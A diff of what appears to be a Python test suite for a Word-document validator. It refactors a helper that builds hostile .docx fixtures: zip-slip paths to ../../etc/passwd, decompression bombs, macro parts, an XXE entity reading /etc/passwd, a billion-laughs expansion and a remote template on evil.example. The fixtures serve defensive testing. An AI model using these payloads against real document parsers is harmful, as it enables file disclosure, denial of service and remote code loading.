@@ -42,7 +42,7 @@ def links(target: str, kind: str) -> str:
 
 def declared(entity: str, body: str) -> bytes:
     document = f"<!DOCTYPE d [{entity}]><w:document {W}><w:body>{body}</w:body></w:document>"
-    return word(**{"word/document.xml": document})
+    return part("word/document.xml", document)
 
 
 def field_code(code: str) -> bytes:
@@ -66,25 +66,32 @@ def locked() -> bytes:
 
 
 LAUGHS = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10 if n else 'ha'}'>" for n in range(9))
+
+
+def part(name: str, data: str | bytes) -> bytes:
+    """A Word file with this part more, or instead of its own."""
+    return word(PARAGRAPH, **{name: data})
+
+
 HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
     "no archive": (lambda: b"PK\x03\x04 broken", "not_docx", ""),
     "another file": (lambda: b"%PDF-1.7", "not_docx", ""),
     "cut off": (lambda: word()[:-40], "not_docx", ""),
-    "no document": (lambda: word(**{"word/document.xml": "<"}), "not_docx", "word/document.xml"),
+    "no document": (lambda: part("word/document.xml", "<"), "not_docx", "word/document.xml"),
     "two documents": (doubled, "not_docx", ""),
-    "leaves its folder": (lambda: word(**{"../../etc/passwd": "x"}), "not_docx", ""),
+    "leaves its folder": (lambda: part("../../etc/passwd", "x"), "not_docx", ""),
     "password": (locked, "encrypted", ""),
     "too large": (lambda: word() + b"0" * 200_000, "too_large", "200 kB"),
-    "bomb": (lambda: word(**{"word/a.xml": b" " * 2_000_000}), "bomb", "word/a.xml"),
-    "wide bomb": (lambda: word(**{"word/a.bin": b"\0" * 21_000_000}), "bomb", "20 MB"),
+    "bomb": (lambda: part("word/a.xml", b" " * 2_000_000), "bomb", "word/a.xml"),
+    "wide bomb": (lambda: part("word/a.bin", b"\0" * 21_000_000), "bomb", "20 MB"),
     "many parts": (lambda: word(**{f"p{n}": "x" for n in range(600)}), "bomb", "1 MB"),
-    "macro": (lambda: word(**{"word/vbaProject.bin": b"x"}), "macros", "word/vbaProject.bin"),
+    "macro": (lambda: part("word/vbaProject.bin", b"x"), "macros", "word/vbaProject.bin"),
     "macro type": (
-        lambda: word(**{"[Content_Types].xml": TYPES.replace("/>", ' a="macroEnabled"/>')}),
+        lambda: part("[Content_Types].xml", TYPES.replace("/>", ' a="macroEnabled"/>')),
         "macros",
         "[Content_Types].xml",
     ),
-    "embedded": (lambda: word(**{"word/embeddings/a.bin": b"x"}), "embedded", ""),
+    "embedded": (lambda: part("word/embeddings/a.bin", b"x"), "embedded", ""),
     "outside file": (
         lambda: declared('<!ENTITY x SYSTEM "file:///etc/passwd">', "<w:p>&x;</w:p>"),
         "entities",
@@ -92,7 +99,7 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
     ),
     "entities that grow": (lambda: declared(LAUGHS, "<w:p>&e8;</w:p>"), "entities", ""),
     "template elsewhere": (
-        lambda: word(**{RELS: links("http://evil.example/t.dotm", "attachedTemplate")}),
+        lambda: part(RELS, links("http://evil.example/t.dotm", "attachedTemplate")),
         "external",
         "http://evil.example/t.dotm",
     ),
